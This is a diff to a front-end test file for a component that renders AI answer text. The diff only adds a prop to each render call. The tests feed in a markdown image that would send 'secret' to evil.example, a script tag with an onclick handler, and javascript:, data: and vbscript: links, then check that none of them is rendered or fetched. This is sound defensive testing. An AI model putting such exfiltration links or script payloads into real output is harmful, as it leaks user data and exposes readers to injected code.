@@ -8,20 +8,24 @@ afterEach(cleanup);
 
 describe("what an answer can't do", () => {
   it("shows an image's words, and never fetches the image", () => {
-    const { container } = render(<AnswerText text="![a chart](https://evil.example/?q=secret)" />);
+    const { container } = render(
+      <AnswerText text="![a chart](https://evil.example/?q=secret)" run={undefined} />,
+    );
     expect(container.querySelector("img")).toBeNull();
     expect(container.innerHTML).not.toContain("evil.example");
   });
 
   it("keeps raw HTML as the text it is", () => {
-    const { container } = render(<AnswerText text={'<script>alert(1)</script> <b onclick="x">'} />);
+    const { container } = render(
+      <AnswerText text={'<script>alert(1)</script> <b onclick="x">'} run={undefined} />,
+    );
     expect(container.querySelector("script, b")).toBeNull();
   });
 
   it.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x"])(
     "leads nowhere for %s",
     (url) => {
-      render(<AnswerText text={`[click](${url})`} />);
+      render(<AnswerText text={`[click](${url})`} run={undefined} />);
       expect(screen.getByText("click").getAttribute("href") ?? "").toBe("");
     },
   );
@@ -29,14 +33,14 @@ describe("what an answer can't do", () => {
 
 describe("what an answer shows", () => {
   it("has a table's rows and columns", () => {
-    render(<AnswerText text={"| team | cost |\n| --- | --- |\n| data | $5 |"} />);
+    render(<AnswerText text={"| team | cost |\n| --- | --- |\n| data | $5 |"} run={undefined} />);
     const table = within(screen.getByRole("table"));
     expect(table.getByRole("columnheader", { name: "cost" })).toBeDefined();
     expect(table.getByRole("cell", { name: "$5" })).toBeDefined();
   });
 
   it("opens links beside the page, without telling where they were clicked", () => {
-    render(<AnswerText text="[docs](https://example.com/docs)" />);
+    render(<AnswerText text="[docs](https://example.com/docs)" run={undefined} />);
     const link = screen.getByRole("link", { name: "docs" });
     expect(link.getAttribute("href")).toBe("https://example.com/docs");
     expect(link.getAttribute("rel")).toBe("noopener noreferrer");
